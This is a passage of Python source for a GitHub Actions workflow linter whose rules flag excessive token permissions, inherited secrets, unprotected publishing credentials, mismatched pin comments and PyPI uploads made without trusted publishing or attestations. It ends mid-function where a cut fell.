EXPRESSION = re.compile(r"\$\{\{(.*?)\}\}", re.S)
SECRET = re.compile(r"\bsecrets\s*(?:\.\s*([A-Za-z_][\w-]*)|\[\s*['\"]([^'\"]+)['\"]\s*\])")
# Secrets whose names say they publish, deploy, sign in to a registry or a cloud, or act on
# GitHub beyond the job's token (a personal access token, a GitHub App's private key)
AUTHORITY = re.compile(
    r"PYPI|TWINE|NPM|DOCKER|REGISTRY|DEPLOY|RELEASE|PUBLISH|AWS|AZURE|GCP|GCLOUD|GOOGLE"
    r"|CLOUDFLARE|HEROKU|VERCEL|NETLIFY|ANACONDA|CONDA_|QUAY|GHCR|DOCKERHUB|SSH|SIGNING|GPG"
    r"|(?:^|_)PAT(?:_|$)|PERSONAL_ACCESS|^GH_TOKEN$|^GITHUB_PAT|PRIVATE_KEY|_PEM(?:_|$)",
    re.I,
)
# Steps that publish a package or deploy: their job holds the release's keys
PUBLISHING_ACTIONS = re.compile(
    r"^(pypa/gh-action-pypi-publish|docker/login-action|docker/build-push-action"
    r"|softprops/action-gh-release|ncipollo/release-action|peaceiris/actions-gh-pages"
    r"|jamesives/github-pages-deploy-action|cloudflare/|aws-actions/|google-github-actions/"
    r"|azure/|conda-incubator/anaconda-upload|pypa/cibuildwheel-publish)"
)
PUBLISHING_COMMAND = re.compile(
    r"\btwine\s+upload|\buv\s+publish|\bpoetry\s+publish|\bhatch\s+publish|\bpdm\s+publish"
    r"|\bflit\s+publish|\bmaturin\s+(?:upload|publish)|\bnpm\s+publish|\bdocker\s+push"
    r"|\banaconda\s+upload|\bgh\s+release\s+(?:create|upload)|\bdeploy\b",
    re.I,
)
# `uses: OWNER/NAME@<40 hex>  # v1.2.3` (also `# tag=v1.2.3`, `# version: 1.2.3`)
PINNED_USES = re.compile(
    r"""uses:\s*['"]?([\w.-]+/[\w./-]+)@([0-9a-f]{40})['"]?\s*#\s*"""
    r"""(?:(?:tag|version|ver)\s*[:=]\s*)?(v?\d[\w.+-]*)"""
)


def _write_scopes(permissions: Any) -> list[str]:
    """The scopes a `permissions:` mapping grants `write`."""
    if not isinstance(permissions, dict):
        return []
    return [str(scope) for scope, level in permissions.items() if level == "write"]


@rule(
    "GHA004",
    "excessive-permissions",
    source="https://docs.zizmor.sh/audits/#excessive-permissions",
    peers=("zizmor:excessive-permissions", "scorecard:Token-Permissions"),
)
def excessive_permissions(p: Project) -> Iterator[Violation]:
    """A workflow or a job grants its token more than its steps can use.

    ## What it does
    Reports three shapes (a missing top-level `permissions:` and `write-all` are SEC006's):

    - `permissions: read-all` in a job: it reads every scope (issues, pull requests, packages,
      security events) where a job needs one or two;
    - a write grant, or `read-all`, at the top of a workflow whose jobs, two or more of them,
      inherit it: every job gets it, where usually one needs it (a single job's top-level
      `read-all`, as Scorecard's own workflow writes it, is left alone; so is a write that
      every inheriting job certainly uses: each runs `git push`, `gh pr create`, …);
    - a write grant (`contents: write`, `id-token: write`, ...) to a job whose every step is known
      not to use it: only checkouts, set-up actions, artifacts and caches of the same run, and
      scripts that neither push, tag, release, publish, deploy, sign nor call `gh` or GitHub's
      API. The list of such actions is short and explicit; a job with any other action (a local
      or Docker action, a reusable workflow) could use the grant, and the rule stays quiet.

    A reusable workflow (`on: workflow_call` only) is not reported for its top-level grants:
    its caller's permissions bound it.

    ## Why it matters
    The token is handed to every step of the job; a compromised action or dependency can do
    whatever it allows: push to the default branch, publish a release, mint an OIDC token that a
    package index or a cloud account trusts.

    ## Example
    ```yaml
    permissions:
      contents: write
    jobs:
      test: ...
      release: ...
    ```

    ## Use instead
    ```yaml
    permissions:
      contents: read
    jobs:
      test: ...
      release:
        permissions:
          contents: write
    ```

    ## Fix
    Grant at the top only what every job needs (`contents: read`, or `{}`), and each write in the
    job that uses it; drop a write that no step uses.
    """
    for doc in p.workflows.docs:
        yield from _excessive(doc)


# What certainly writes with a scope of the token, by scope: a script's command, or an action
# that does nothing else.
SCOPE_WRITERS: dict[str, tuple[re.Pattern[str], tuple[str, ...]]] = {
    "contents": (
        re.compile(
            r"\bgit\s+push\b(?![^\n]*--dry-run)|\bgh\s+release\s+(?:create|upload|edit|delete)\b"
        ),
        (
            "stefanzweifel/git-auto-commit-action",
            "EndBug/add-and-commit",
            "softprops/action-gh-release",
            "ncipollo/release-action",
        ),
    ),
    "pull-requests": (
        re.compile(r"\bgh\s+pr\s+(?:create|comment|edit|merge|review|close)\b"),
        ("peter-evans/create-pull-request",),
    ),
    "issues": (re.compile(r"\bgh\s+issue\s+(?:create|comment|edit|close)\b"), ()),
}


def _certainly_writes(job: dict[str, Any], scope: str) -> bool:
    """True when a step of the job certainly uses the token's write grant of `scope` (`git
    push` for contents, `gh pr create` for pull requests, an action that only does that)."""
    pattern, actions = SCOPE_WRITERS.get(scope, (None, ()))
    listed = job.get("steps")
    for step in listed if isinstance(listed, list) else []:
        if not isinstance(step, dict):
            continue
        if pattern is not None and pattern.search(str(step.get("run", ""))):
            return True
        if action_name(str(step.get("uses", ""))) in actions:
            return True
    return False


def _excessive(doc: YamlDoc) -> Iterator[Violation]:
    top = doc.data.get("permissions")
    table = list(jobs(doc))
    inheriting = [(job_id, job) for job_id, job in table if "permissions" not in job]
    reusable = triggers(doc) == {"workflow_call"}
    shared = not reusable and len(inheriting) >= 2
    if top == "read-all" and shared:
        yield at_line(
            doc.path,
            "permissions: read-all grants every read scope; name the scopes the jobs read",
            doc.line_of("permissions"),
        )
    for scope in _write_scopes(top):
        if shared and all(_certainly_writes(job, scope) for _, job in inheriting):
            continue  # every job that inherits the grant uses it: moving it changes nothing
        if shared:
            names = ", ".join(job_id for job_id, _ in inheriting)
            yield at_line(
                doc.path,
                f"{scope}: write is granted at the top to every job without its own "
                f"permissions ({names}); grant it only in the job that needs it",
                doc.line_of("permissions", scope),
            )
        elif not reusable and inheriting and all(token_use(job) is None for _, job in inheriting):
            yield at_line(
                doc.path,
                f"{scope}: write is granted at the top, but no step of "
                f"{', '.join(job_id for job_id, _ in inheriting)} can use it",
                doc.line_of("permissions", scope),
            )
    for job_id, job in table:
        granted = job.get("permissions")
        if granted == "read-all":
            yield at_line(
                doc.path,
                f"job {job_id} has permissions: read-all; name the scopes it reads",
                doc.line_of("jobs", job_id, "permissions"),
            )
        scopes = _write_scopes(granted)
        if scopes and token_use(job) is None:
            yield at_line(
                doc.path,
                f"job {job_id} grants {', '.join(f'{s}: write' for s in scopes)}, but none of its "
                "steps can use it (checkouts, set-up actions and scripts that use no token)",
                doc.line_of("jobs", job_id, "permissions", scopes[0]),
            )


@rule(
    "GHA005",
    "secrets-inherit",
    source="https://docs.zizmor.sh/audits/#secrets-inherit",
    peers=("zizmor:secrets-inherit",),
)
def secrets_inherit(p: Project) -> Iterator[Violation]:
    """A job hands every secret to a reusable workflow with `secrets: inherit`.

    ## What it does
    Reports jobs that call a reusable workflow (`uses: ...yml`) with `secrets: inherit`, whether
    the workflow is this repository's or another's.

    ## Why it matters
    The called workflow receives every secret of the repository and its organisation, not the
    one or two it needs; whoever can change that workflow (another repository's maintainers, or
    a branch it is called at) can read them all, and no one can tell from the caller which
    secrets it used.

    ## Example
    ```yaml
    jobs:
      release:
        uses: org/workflows/.github/workflows/release.yml@v1
        secrets: inherit
    ```

    ## Use instead
    ```yaml
    jobs:
      release:
        uses: org/workflows/.github/workflows/release.yml@v1
        secrets:
          pypi-token: ${{ secrets.PYPI_TOKEN }}
    ```

    ## Fix
    Name each secret the called workflow declares under `on.workflow_call.secrets`.
    """
    for doc in p.workflows.docs:
        for job_id, job in jobs(doc):
            if "uses" in job and job.get("secrets") == "inherit":
                yield at_line(
                    doc.path,
                    f"job {job_id} hands every secret to {job['uses']} (secrets: inherit)",
                    doc.line_of("jobs", job_id, "secrets"),
                )


def _secrets_read(value: Any) -> Iterator[str]:
    """The names of the secrets the expressions inside a job's values read."""
    if isinstance(value, dict):
        for item in value.values():
            yield from _secrets_read(item)
    elif isinstance(value, list):
        for item in value:
            yield from _secrets_read(item)
    elif isinstance(value, str) and "secrets" in value:
        for expression in EXPRESSION.findall(value):
            for dotted, quoted in SECRET.findall(expression):
                yield dotted or quoted


def _publishes(job: dict[str, Any]) -> bool:
    """True when a step of the job publishes a package or deploys."""
    listed = job.get("steps")
    for step in listed if isinstance(listed, list) else []:
        if not isinstance(step, dict):
            continue
        if PUBLISHING_ACTIONS.match(action_name(str(step.get("uses", "")))):
            return True
        if PUBLISHING_COMMAND.search(str(step.get("run", ""))):
            return True
    return False


@rule(
    "GHA006",
    "secrets-outside-env",
    severity="I",
    source="https://docs.zizmor.sh/audits/#secrets-outside-env",
    peers=("zizmor:secrets-outside-env",),
)
def secrets_outside_env(p: Project) -> Iterator[Violation]:
    """A job that publishes or deploys reads its keys without a deployment environment.

    ## What it does
    Reports a job with no `environment:` that reads a secret (`${{ secrets.NAME }}`, not
    `GITHUB_TOKEN`) when the job publishes or deploys (`pypa/gh-action-pypi-publish`,
    `docker/login-action`, a release or pages action, a cloud's action, `twine upload`,
    `uv publish`, `docker push`, `deploy`) or the secret's name says it does (`PYPI`, `TWINE`,
    `NPM`, `DOCKER`, `DEPLOY`, `RELEASE`, `PUBLISH`, a cloud's name, `SSH`, `GPG`) or it acts
    on GitHub beyond the job's token (`GH_TOKEN`, a `PAT`, a GitHub App's `PRIVATE_KEY`): one
    finding per job, naming the secrets.

    It stays quiet for other secrets (a coverage or a chat token gates nothing worth an approval
    on every pull request), for jobs of reusable workflows (an environment's secrets reach them
    only through `secrets: inherit`, which GHA005 reports), and for `GITHUB_TOKEN`, whose reach
    is set by `permissions:`. prodready cannot see where a secret is stored on GitHub: a job with
    an environment is assumed to read that environment's secrets.

    ## Why it matters
    A repository or organisation secret reaches every workflow run of every branch that asks for
    it; an environment's secret reaches only the jobs its protection rules let through (a tag, a
    reviewer's approval), so a compromised branch or dependency cannot publish with it.

    ## Example
    ```yaml
    publish:
      runs-on: ubuntu-latest
      steps:
        - run: uv publish
          env:
            UV_PUBLISH_TOKEN: ${{ secrets.PYPI_TOKEN }}
    ```

    ## Use instead
    ```yaml
    publish:
      runs-on: ubuntu-latest
      environment: pypi
      steps:
        - run: uv publish
          env:
            UV_PUBLISH_TOKEN: ${{ secrets.PYPI_TOKEN }}
    ```
    (and move the secret into the `pypi` environment's secrets; better still, publish with
    trusted publishing and no token at all).

    ## Fix
    Create an environment with protection rules, move the secret into it, and name it in the job.
    """
    for doc in p.workflows.docs:
        if "workflow_call" in triggers(doc):
            continue
        for job_id, job in jobs(doc):
            if job.get("environment") or "uses" in job:
                continue
            read = sorted({s for s in _secrets_read(job) if s.upper() != "GITHUB_TOKEN"})
            if not read:
                continue
            if not _publishes(job):
                read = [s for s in read if AUTHORITY.search(s)]
            if read:
                yield at_line(
                    doc.path,
                    f"job {job_id} reads {', '.join(read)} without an environment: any run of "
                    "any branch can use them",
                    doc.line_of("jobs", job_id),
                )


def _precision(tag: str) -> tuple[int, int, str]:
    """The most precise of a commit's tags names it best (`v4.2.2` rather than `v4`)."""
    return (tag.count("."), len(tag), tag)


def _series(comment: str, tag: str) -> bool:
    """True when the tag is the comment's version or one of its series (`v4` holds `v4.2.2`)."""
    return tag == comment or tag.startswith(comment + ".")


@rule(
    "GHA007",
    "ref-version-mismatch",
    source="https://docs.zizmor.sh/audits/#ref-version-mismatch",
    peers=("zizmor:ref-version-mismatch",),
)
def ref_version_mismatch(p: Project) -> Iterator[Violation]:
    """An action pinned by commit carries a version comment that names another release.

    ## What it does
    Reads `uses: OWNER/NAME@COMMIT  # vX.Y.Z` (also `# tag=vX.Y.Z`, `# version: X.Y.Z`) and
    compares, offline, with the tags prodready's data records for the common actions
    (`data/pins.json`, generated from the actions' repositories). It reports the step when the
    data knows both the commit (a release's) and the comment's tag, and the commit is not that
    release nor one of its series (`# v4` on the commit of `v4.2.2` is fine).

    It stays quiet for actions the data does not cover, for commits that are no release's (a
    branch's commit, or a release newer than the data), and for comments that are not a version.
    zizmor asks GitHub's API for every action instead, and also reports pins with no comment;
    prodready stays offline.

    ## Why it matters
    The comment is what reviewers and Dependabot read: a wrong one hides what actually runs (an
    older release with a fixed vulnerability, or a commit someone swapped in), and Dependabot
    may stop updating a pin whose comment it no longer understands.

    ## Example
    ```yaml
    - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683  # v4.1.0
    ```

    ## Use instead
    ```yaml
    - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683  # v4.2.2
    ```

    ## Fix
    Write the commit's release in the comment (the message names it), or pin the release the
    comment names.
    """
    for step in p.workflows.steps:
        if "@" not in step.uses:
            continue
        line = step.doc.line_of("jobs", step.job, "steps", step.position, "uses")
        lines = step.doc.text.splitlines()
        if line is None or line > len(lines):
            continue
        found = PINNED_USES.search(lines[line - 1])
        if found is None:
            continue
        name, commit, version = found.groups()
        tags = action_tags("/".join(name.split("/")[:2]))
        if tags is None:
            continue
        version = version.rstrip(".,;")
        named = tags.get(version) or tags.get(version.removeprefix("v")) or tags.get(f"v{version}")
        releases = sorted(t for t, c in tags.items() if c == commit[:12])
        if named is None or not releases or named == commit[:12]:
            continue
        if any(_series(version.removeprefix("v"), t.removeprefix("v")) for t in releases):
            continue
        yield at_line(
            step.doc.path,
            f"{name} is pinned to the commit of {max(releases, key=_precision)}, but the comment says {version}",
            line,
        )


# --- GHA008-GHA011: caches in release jobs, publishing credentials, provenance, linting -------

PYPI_ACTION = "pypa/gh-action-pypi-publish"
PYPI_INDEXES = ("pypi.org", "pypi.python.org", "/pypi", "pypi", "testpypi")
# Tools that cannot publish with trusted publishing: a credential is all they take.
NO_TRUSTED_PUBLISHING = frozenset({"poetry", "hatch", "flit"})
PUBLISH_SUBCOMMANDS = {
    "twine": ("upload",),
    "uv": ("publish",),
    "poetry": ("publish",),
    "hatch": ("publish",),
    "pdm": ("publish",),
    "flit": ("publish",),
    "maturin": ("publish", "upload"),
}
# Words that may stand before the publishing tool in one command (`python -m twine upload`,
# `pipx run twine==6 upload`, `uv run --with twine twine upload`); options are skipped.
RUNNERS = frozenset({"uvx", "pipx", "run", "uv", "tool", "pipenv", "exec", "sudo", "time", "-m"})
TOKEN_OPTIONS = frozenset({"-p", "--password", "--token", "-t", "--auth", "-a", "--api-token"})
TOKEN_ENV = re.compile(
    r"^(?:TWINE_PASSWORD|TWINE_API_KEY|UV_PUBLISH_TOKEN|UV_PUBLISH_PASSWORD|POETRY_PYPI_TOKEN_\w+"
    r"|POETRY_HTTP_BASIC_\w+_PASSWORD|HATCH_INDEX_AUTH|FLIT_PASSWORD|PDM_PUBLISH_PASSWORD"
    r"|MATURIN_PYPI_TOKEN|MATURIN_PASSWORD)$"
)
REPOSITORY_OPTIONS = frozenset(
    {"--repository-url", "--repository", "-r", "--repo", "--publish-url", "--index", "--url"}
)
PYTHON = re.compile(r"^(?:python[\d.]*|py)$")
CONTINUATION = re.compile(r"\\\r?\n")
COMMAND_SEPARATOR = re.compile(r"\r?\n|;|&&|\|\|?")


class Publish(NamedTuple):
    """One upload to a package index found in a workflow step."""

    step: Step
    tool: str  # `twine`, `uv`, … or the action (`pypa/gh-action-pypi-publish`)
    credential: str  # how a long-lived credential is handed over ('' when none is seen)


def _tool_name(word: str) -> str:
    """`twine` of `twine`, `/usr/bin/twine`, `twine==6.1`, `twine@6`, `python3.12`."""
    base = word.rsplit("/", 1)[-1]
    return re.split(r"[=<>@\[]", base, maxsplit=1)[0].lower()


def _commands(script: str) -> Iterator[list[str]]:
    """The simple commands of a shell script, as words (a best effort: no shell is run)."""
    for part in COMMAND_SEPARATOR.split(CONTINUATION.sub(" ", script)):
        try:
            words = shlex.split(part, comments=True)
        except ValueError:
            words = part.split()
        while words and re.match(r"^[A-Za-z_]\w*=", words[0]):
            words = words[1:]  # `TWINE_PASSWORD=… twine upload`
        if words:
            yield words


def _to_pypi(words: list[str]) -> bool:
    """False when the command names an index that is not PyPI or TestPyPI (a private index has
    no trusted publishing); a value read from a variable is not PyPI either, as far as is known."""
    for index, word in enumerate(words):
        option, _, value = word.partition("=")
        if option in REPOSITORY_OPTIONS:
            target = value or (words[index + 1] if index + 1 < len(words) else "")
            if not any(name in target.lower() for name in PYPI_INDEXES):
                return False
    return True


def _publishing_tool(words: list[str]) -> str | None:
    """The tool of a command that uploads distributions (`twine upload`, `uv publish`, …)."""
    first = _tool_name(words[0])
    if not (first in PUBLISH_SUBCOMMANDS or first in RUNNERS or PYTHON.match(first)):
        return None  # `echo twine upload`, `pip install twine`
    for index, word in enumerate(words):
        name = _tool_name(word)
        if name not in PUBLISH_SUBCOMMANDS:
            continue
        rest = words[index + 1 :]
        verb = next((w for w in rest if not w.startswith("-")), "")
        if verb in PUBLISH_SUBCOMMANDS[name]:
            return None if "--dry-run" in rest or not _to_pypi(rest) else name
    return None


def _token_in_words(words: list[str]) -> str:
    for index, word in enumerate(words):
        option = word.partition("=")[0]
        if option in TOKEN_OPTIONS:
            return f"`{option}`"
        if option in ("-u", "--username") and "__token__" in " ".join(words[index : index + 2]):
            return "the `__token__` user"
    return ""


@per_project
def publishes(p: Project) -> list[Publish]:
    """Every upload to PyPI (or TestPyPI) in the workflows: the publish action, maturin's
    action, and the commands of `run:` steps (a script that names no `upload` or `publish`
    verb holds no publishing command, so only the others are split into words)."""
    found: list[Publish] = []
    for step in p.workflows.steps:
        action, _ = action_of(step.uses)
        job = job_of(step)
        env = env_names(step.doc, job, step)
        secret_env = next((name for name in env if TOKEN_ENV.match(name)), "")
        if action == PYPI_ACTION:
            inputs = step.with_
            url = str(inputs.get("repository-url", inputs.get("repository_url", "")))
            if url and not any(name in url.lower() for name in PYPI_INDEXES):
                continue
            token = "the `password:` input" if "password" in inputs else ""
            found.append(Publish(step, PYPI_ACTION, token))
        elif action == "pyo3/maturin-action":
            inputs = step.with_
            words = str(inputs.get("args", "")).split()
            if str(inputs.get("command", "")) in ("upload", "publish") and _to_pypi(words):
                token = f"`{secret_env}`" if secret_env else _token_in_words(words)
                found.append(Publish(step, "maturin", token))
        elif step.run:
            before = len(found)
            verbs = "upload" in step.run or "publish" in step.run
            for words in _commands(step.run) if verbs else ():
                tool = _publishing_tool(words)
                if tool is None:
                    continue
                given = _token_in_words(words) or (f"`{secret_env}`" if secret_env else "")
                if not given and tool == "poetry" and "pypi-token" in step.run:
                    given = "`poetry config pypi-token`"
                found.append(Publish(step, tool, given))
            handed = _secret_token_env(step)
            if len(found) == before and handed:
                # a PyPI credential handed to a step that publishes through a task runner
                # (arrow: `FLIT_PASSWORD: ${{ secrets.PYPI_API_TOKEN }}` for `tox -e publish`)
                found.append(Publish(step, f"`{step.run.split()[0]}`", f"`{handed}`"))
    return found


def _secret_token_env(step: Step) -> str:
    """The PyPI credential variable the step itself sets from a secret, or ''."""
    env = step.data.get("env")
    for name, value in env.items() if isinstance(env, dict) else []:
        if TOKEN_ENV.match(str(name)) and "secrets." in str(value):
            return str(name)
    return ""


def _stored_credential(publish: Publish) -> str:
    """How the upload authenticates with a long-lived credential, or '' when it may use trusted
    publishing."""
    if publish.credential:
        return publish.credential
    if publish.tool in NO_TRUSTED_PUBLISHING:
        return f"{publish.tool}, which has no trusted publishing"
    if not grants_id_token(publish.step.doc, job_of(publish.step)):
        return "a stored credential (the job cannot request `id-token: write`)"
    return ""


def _uses_line(step: Step) -> int | None:
    return step.doc.line_of("jobs", step.job, "steps", step.position, "uses") or step.line


@rule(
    "GHA009",
    "publish-with-token",
    severity="W",
    fix="unsafe",
    source="PyPI trusted publishing: https://docs.pypi.org/trusted-publishers/; sp-repo-review GH105",
    peers=(
        "zizmor:use-trusted-publishing",
        "sp-repo-review:GH105",
        "scorecard:Packaging",
    ),
)
def publish_with_token(p: Project) -> Iterator[Violation]:
    """A workflow uploads to PyPI with a long-lived token instead of trusted publishing.

    ## What it does
    Reports uploads to PyPI or TestPyPI that authenticate with a stored credential:
    `pypa/gh-action-pypi-publish` given a `password:`; `twine upload`, `uv publish`,
    `pdm publish` and `maturin upload` handed a token (`-p`, `--password`, `--token`,
    `-u __token__`, or `TWINE_PASSWORD`, `UV_PUBLISH_TOKEN`, `PDM_PUBLISH_PASSWORD`,
    `MATURIN_PYPI_TOKEN` in the step's, job's or workflow's `env`) or run in a job that cannot
    request an OpenID Connect token (no `id-token: write`), so has nothing but a stored
    credential; and `poetry publish`, `hatch publish` and `flit publish`, which cannot use
    trusted publishing at all. Also `PyO3/maturin-action` with `command: upload`. Commands are
    found in `python -m twine`, `pipx run twine`, `uvx twine` and `uv run twine` forms too.
    Uploads to another index (`--repository-url`, `repository-url:` not PyPI's), `--dry-run`
    and `twine check` are left alone: trusted publishing is PyPI's.

    ## Why it matters
    A PyPI token stored as a repository secret lives until someone revokes it: any workflow,
    action or dependency that reads it (a compromised action, an injected script) can publish
    releases of the project from anywhere, long after the leak. Trusted publishing hands the
    job a token that lasts minutes and only works from the workflow named on PyPI.

    ## Example
    ```yaml
    jobs:
      publish:
        runs-on: ubuntu-latest
        steps:
          - uses: pypa/gh-action-pypi-publish@release/v1
            with:
              password: ${{ secrets.PYPI_API_TOKEN }}
    ```

    ## Use instead
    ```yaml
    jobs:
      publish:
        runs-on: ubuntu-latest
        environment: pypi
        permissions:
          id-token: write
        steps:
          - uses: pypa/gh-action-pypi-publish@release/v1
    ```

    ## Fix
    Unsafe, for `pypa/gh-action-pypi-publish` only: removes `password:` (and a `user:` of
    `__token__`) and grants the job `id-token: write` (a job without `permissions` gets the
    workflow's permissions, or `contents: read`, beside it). It is unsafe because the upload
    then works only once the PyPI project has a trusted publisher for this repository, workflow
    file and environment (https://docs.pypi.org/trusted-publishers/adding-a-publisher/): add it
    before the next release, then revoke the token. Commands are left to you: `uv publish`,
    `twine upload` (6.1 and later) and `pdm publish` use trusted publishing by themselves once
    the job has `id-token: write` and no token is passed.
    """
    for publish in publishes(p):
        credential = _stored_credential(publish)
        if not credential:
            continue
        step = publish.step
        fixable = publish.tool == PYPI_ACTION and bool(publish.credential)
        yield Violation(
            f"{publish.tool} uploads to PyPI with {credential} in job {step.job}: use trusted "
            "publishing (`id-token: write`, and a trusted publisher on PyPI)",
            step.doc.path,
            _uses_line(step) if step.uses else step.line,
            1,
            data=(step.doc.path, step.job, step.position) if fixable else (),
            fixable=fixable,
        )


# What makes an attestation or provenance for what a workflow builds.
ATTESTING_ACTIONS = (
    "actions/attest-build-provenance",
    "actions/attest",
    "actions/attest-sbom",
    "slsa-framework/slsa-github-generator",
)
ATTESTING_COMMANDS = re.compile(r"pypi-attestations\s+sign|\bgh\s+attestation\b|--attestations\b")
MOVING_CURRENT_REFS = ("release/v1", "unstable/v1")


def _attests(p: Project, doc_path: str) -> bool:
    """True when the workflow makes attestations of its own (an attest action, the SLSA
    generator called as a job or a step, `pypi-attestations sign`)."""
    for doc in p.workflows.docs:
        if doc.path != doc_path:
            continue
        if any(action in doc.text.lower() for action in ATTESTING_ACTIONS):
            return True
        if ATTESTING_COMMANDS.search(doc.text):
            return True
    return False


def _action_attests(publish: Publish) -> bool | None:
    """Whether pypa/gh-action-pypi-publish makes PEP 740 attestations here: from v1.11 on it
    does by default under trusted publishing. None when its version cannot be told."""
    step = publish.step
    if publish.credential or not grants_id_token(step.doc, job_of(step)):
        return False
    if str(step.with_.get("attestations", "true")).lower() == "false":
        return False
    _, ref = action_of(step.uses)
    if ref in MOVING_CURRENT_REFS:
        return True
    version = action_version(step)
    if version is None:
        return None if re.fullmatch(r"[0-9a-f]{40}", ref) else False
    return version >= (1, 11)


@rule(
    "GHA010",
    "release-without-attestations",
    severity="I",
    source="PEP 740: https://peps.python.org/pep-0740/; OpenSSF Scorecard Signed-Releases",
    peers=("scorecard:Signed-Releases", "sp-repo-review:GH105"),
)
def release_without_attestations(p: Project) -> Iterator[Violation]:
    """A workflow publishes to PyPI without attestations of where the distributions were built.

    ## What it does
    For each upload to PyPI (see GHA009 for what counts as one), looks for what would make
    provenance for it: `pypa/gh-action-pypi-publish` v1.11 or later (or `release/v1`) under
    trusted publishing, which signs PEP 740 attestations unless `attestations: false`; or, in
    the same workflow, `actions/attest-build-provenance` / `actions/attest`, the SLSA generator,
    or `pypi-attestations sign` (whose files `twine upload --attestations` sends). Reports the
    upload when none is there. A commit pin of the action without a version comment cannot be
    dated, and is left alone. `uv publish` and `twine upload` send attestations only when
    something made them: by themselves they make none.

    It is advice (info): PyPI does not require attestations, and a release without them is
    not broken; Scorecard's Signed-Releases counts them.

    ## Why it matters
    An attestation binds each file on PyPI to the repository, commit and workflow that built
    it, signed through Sigstore: users and tools (`pypi-attestations verify`, PyPI's own page)
    can check that a wheel was not built or swapped elsewhere, as stolen-token uploads are.

    ## Example
    ```yaml
    - uses: pypa/gh-action-pypi-publish@v1.8.14
      with:
        password: ${{ secrets.PYPI_TOKEN }}
    ```

    ## Use instead
    ```yaml
    permissions:
      id-token: write
    steps:
      - uses: pypa/gh-action-pypi-publish@release/v1
    ```

    ## Fix
    Publish with trusted publishing through `pypa/gh-action-pypi-publish` v1.11 or later, or
    add `actions/attest-build-provenance` for `dist/*` before the upload.
    """
    for publish in publishes(p):
        step = publish.step
        if _attests(p, step.doc.path):
            continue
        if publish.tool == PYPI_ACTION:
            made = _action_attests(publish)
            if made is None or made:
                continue
            why = (
                "with a token"
                if publish.credential
                else "below v1.11, or without `id-token: write`"
            )
            if str(step.with_.get("attestations", "")).lower() == "false":
                why = "with `attestations: false`"
        else:
            why = f"through {publish.tool}, which makes none"
        yield at_line(
            step.doc.path,
            f"the upload to PyPI in job {step.job} carries no attestations ({why}): publish "
            "with trusted publishing through pypa/gh-action-pypi-publish, or attest dist/*",
            _uses_line(step) if step.uses else step.line,
        )


# Publishing actions (zizmor's list), and the builds of a release.
PUBLISHER_ACTIONS = (
    PYPI_ACTION,
    "rubygems/release-gem",
    "goreleaser/goreleaser-action",
    "softprops/action-gh-release",
    "ncipollo/release-action",
    "svenstaro/upload-release-action",
    "docker/build-push-action",
    "redhat-actions/push-to-registry",
)
BUILD_ACTIONS = (
    "pypa/cibuildwheel",
    "hynek/build-and-inspect-python-package",
    "pyo3/maturin-action",
)
BUILD_COMMAND = re.compile(
    r"(?:^|[;&|(])\s*(?:(?:sudo\s+)?python[\d.]*\s+-m\s+build\b|pyproject-build\b"
    r"|(?:uv|poetry|hatch|pdm|flit|maturin)\s+build\b|python[\d.]*\s+setup\.py\b[^\n;&|]*\b(?:sdist|bdist_wheel)\b"
    r"|(?:python[\d.]*\s+-m\s+)?pip3?\s+wheel\b|(?:pipx\s+run\s+)?cibuildwheel\b|pipx\s+run\s+build\b"
    r"|uvx\s+(?:--from\s+build\s+)?pyproject-build\b)",
    re.M,
)


RELEASE_UPLOAD = re.compile(r"\bgh\s+release\s+(?:create|upload)\b")


def _truthy(value: Any) -> bool | None:
    """A literal boolean input (`true`, `'false'`); None for an expression or anything else."""
    text = str(value).strip().lower()
    return True if text == "true" else False if text == "false" else None


# Actions that restore a cache, by the input that switches it: "on" caches when the input is
# true, "off" caches unless it is true, "default" caches unless it is false, "always" always does.
CACHE_SWITCHES: dict[str, tuple[str, str]] = {
    "actions/cache": ("lookup-only", "off"),
    "actions/cache/restore": ("lookup-only", "off"),
    "swatinem/rust-cache": ("lookup-only", "off"),
    "actions-rust-lang/setup-rust-toolchain": ("cache", "default"),
    "jdx/mise-action": ("cache", "default"),
    "actions/setup-dotnet": ("cache", "on"),
    "ruby/setup-ruby": ("bundler-cache", "on"),
    "pyo3/maturin-action": ("sccache", "on"),
    "prefix-dev/setup-pixi": ("cache", "on"),
    "mamba-org/setup-micromamba": ("cache-environment", "on"),
    "oven-sh/setup-bun": ("no-cache", "off"),
    "gradle/actions/setup-gradle": ("cache-disabled", "off"),
    "mozilla-actions/sccache-action": ("", "always"),
    "nix-community/cache-nix-action": ("", "always"),
}
NAMED_CACHE_ACTIONS = ("actions/setup-python", "actions/setup-java", "graalvm/setup-graalvm")


def _switched_on(inputs: dict[str, Any], field: str, how: str) -> bool:
    value = _truthy(inputs.get(field)) if field else None
    if how == "on":
        return value is True
    if how == "off":
        return value is not True and "${{" not in str(inputs.get(field, ""))
    if how == "default":
        return value is not False and "${{" not in str(inputs.get(field, ""))
    return True


def _setup_uv_cache(inputs: dict[str, Any], major: int | None) -> str | None:
    enabled = inputs.get("enable-cache")
    if _truthy(enabled):
        return "restores a cache (`enable-cache: true`)"
    default = enabled is None or str(enabled).strip().lower() == "auto"
    if default and major is not None and 5 <= major < 10:
        return f"restores a cache (v{major} caches by default on GitHub's runners)"
    return None


def _setup_node_cache(p: Project, inputs: dict[str, Any], major: int | None) -> str | None:
    value = str(inputs.get("cache", "")).strip()
    if value in ("npm", "yarn", "pnpm"):
        return f"restores its `cache: {value}`"
    if major is None or major < 5 or _truthy(inputs.get("package-manager-cache")) is False:
        return None
    manifest = p.repo.read("package.json") or ""
    if re.search(r'"packageManager"\s*:\s*"npm@|"devEngines"', manifest):
        return "restores npm's cache (v5 caches by default for a package manager of npm)"
    return None


def _restores_cache(p: Project, step: Step) -> str | None:
    """How a step restores a cache, or None (as zizmor's cache-poisoning audit reads each action's
    inputs and defaults; an input set by an expression is taken as the author's own switch)."""
    action, _ = action_of(step.uses)
    inputs = step.with_
    version = action_version(step)
    major = version[0] if version else None
    if action in CACHE_SWITCHES:
        field, how = CACHE_SWITCHES[action]
        if action == "mamba-org/setup-micromamba" and _truthy(inputs.get("cache-downloads")):
            return "restores a cache"
        return "restores a cache" if _switched_on(inputs, field, how) else None
    if action in NAMED_CACHE_ACTIONS:
        value = str(inputs.get("cache", "")).strip()
        return f"restores its `cache: {value}`" if value and "${{" not in value else None
    if action == "astral-sh/setup-uv":
        return _setup_uv_cache(inputs, major)
    if action == "actions/setup-node":
        return _setup_node_cache(p, inputs, major)
